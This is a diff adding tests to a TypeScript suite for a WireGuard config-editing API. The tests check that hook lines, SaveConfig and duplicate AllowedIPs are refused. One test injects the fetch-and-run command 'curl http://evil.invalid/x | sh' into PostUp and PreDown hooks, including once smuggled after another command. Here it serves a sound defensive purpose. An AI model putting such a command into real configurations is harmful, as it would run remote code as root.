@@ -4,7 +4,7 @@
  */
 import { test, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { mkdirSync, readFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import fc from 'fast-check';
 import {
@@ -17,7 +17,9 @@ import {
 import { joinLines, splitLines } from '../../src/sealed-api/formats/lines.ts';
 import { FormatError } from '../../src/sealed-api/formats/index.ts';
 import { SealedCallError } from '../../src/sealed-api/client.ts';
-import { startSealed, tempDir, wgKey, write, type StartedSealed } from './helpers.ts';
+import { startSealed, tempDir, wgKey, write, type StartedSealed, trackedStart } from './helpers.ts';
+
+const start = trackedStart();
 
 const K = wgKey(1);
 const P1 = wgKey(2);
@@ -330,4 +332,101 @@ test('through the API: hook lines changed only by Unicode whitespace are refused
   } finally {
     await srv.close();
   }
+});
+
+test('WireGuard hook lines (commands wg-quick runs as root) change only with allowHooks', async () => {
+  const dir = tempDir();
+  mkdirSync(join(dir, 'etc'));
+  const k = (n: number) => Buffer.alloc(32, n).toString('base64');
+  const base = `[Interface]\nPrivateKey = ${k(1)}\nAddress = 10.0.0.1/24\nPostUp = iptables -A FORWARD -i %i -j ACCEPT\n\n[Peer]\nPublicKey = ${k(2)}\nAllowedIPs = 10.0.0.2/32\n`;
+  writeFileSync(join(dir, 'etc', 'wg0.conf'), base);
+  writeFileSync(join(dir, 'etc', 'wg1.conf'), base);
+  const s = await start(
+    {
+      files: {
+        wg0: { path: 'etc/wg0.conf', format: 'wireguard' },
+        wg1: { path: 'etc/wg1.conf', format: 'wireguard', allowHooks: true },
+      },
+    },
+    { dir },
+  );
+  const c = await s.client('carol', { allow: ['files.*'], files: ['wg0', 'wg1'] });
+  const forbidden = (e: unknown) => (e as { code?: string }).code === 'SEALED_FORBIDDEN';
+  const evil = 'curl http://evil.invalid/x | sh';
+  const r = await c.call<{ etag: string }>('files.read', { file: 'wg0' });
+  await assert.rejects(
+    c.call('files.update', {
+      file: 'wg0',
+      if_match: r.etag,
+      ops: [{ op: 'interface.set', set: { PostUp: evil } }],
+    }),
+    forbidden,
+  );
+  await assert.rejects(
+    c.call('files.update', {
+      file: 'wg0',
+      if_match: r.etag,
+      ops: [{ op: 'interface.set', set: { PreDown: evil } }],
+    }),
+    forbidden,
+  );
+  await assert.rejects(
+    c.call('files.write', {
+      file: 'wg0',
+      if_match: r.etag,
+      content: base.replace('-j ACCEPT', `-j ACCEPT; ${evil}`),
+    }),
+    forbidden,
+  );
+  await assert.rejects(
+    c.call('files.write', { file: 'wg0', if_match: r.etag, content: base.replace(/PostUp.*\n/, '') }),
+    forbidden,
+  );
+  // SaveConfig = true would let wg-quick overwrite the file on shutdown, past our checks and backups.
+  await assert.rejects(
+    c.call('files.update', { file: 'wg0', if_match: r.etag, ops: [{ op: 'interface.set', set: { SaveConfig: 'true' } }] }),
+    forbidden,
+  );
+  assert.equal(readFileSync(join(dir, 'etc', 'wg0.conf'), 'utf8'), base);
+  // Everything else still works, and the same hooks in another spelling are no change.
+  const w = await c.call<{ etag: string }>('files.write', {
+    file: 'wg0',
+    if_match: r.etag,
+    content: base.replace('PostUp = ', 'postup=').replace(/\n/g, '\r\n'),
+  });
+  await c.call('files.update', {
+    file: 'wg0',
+    if_match: w.etag,
+    ops: [{ op: 'peer.upsert', publicKey: k(3), set: { AllowedIPs: '10.0.0.3/32' } }],
+  });
+  const r1 = await c.call<{ etag: string }>('files.read', { file: 'wg1' });
+  await c.call('files.update', {
+    file: 'wg1',
+    if_match: r1.etag,
+    ops: [{ op: 'interface.set', set: { PostUp: 'logger up' } }],
+  });
+  assert.match(readFileSync(join(dir, 'etc', 'wg1.conf'), 'utf8'), /PostUp = logger up/);
+});
+
+test('AllowedIPs claimed twice in another spelling (bare, host bits, IPv6 forms) is refused', () => {
+  const k = (n: number) => Buffer.alloc(32, n).toString('base64');
+  const file = (a: string, b: string) =>
+    `[Interface]\nPrivateKey = ${k(1)}\n\n[Peer]\nPublicKey = ${k(2)}\nAllowedIPs = ${a}\n\n[Peer]\nPublicKey = ${k(3)}\nAllowedIPs = ${b}\n`;
+  const same: [string, string][] = [
+    ['10.0.0.2/32', '10.0.0.2'],
+    ['10.0.0.0/24', '10.0.0.9/24'],
+    ['fd00::2/128', 'FD00:0:0::2'],
+    ['fd00::/64', 'fd00:0:0:0:1::/64'],
+    ['::ffff:10.0.0.2/128', '::ffff:a00:2'],
+    ['0.0.0.0/0', '10.1.2.3/0'],
+  ];
+  for (const [a, b] of same)
+    assert.throws(() => validateWireGuard(file(a, b)), /claimed by two peers/, `${a} vs ${b}`);
+  const different: [string, string][] = [
+    ['10.0.0.2/32', '10.0.0.3/32'],
+    ['10.0.0.0/24', '10.0.0.0/25'],
+    ['fd00::2', 'fd00::3'],
+    ['0.0.0.0/0', '::/0'],
+  ];
+  for (const [a, b] of different) validateWireGuard(file(a, b));
 });
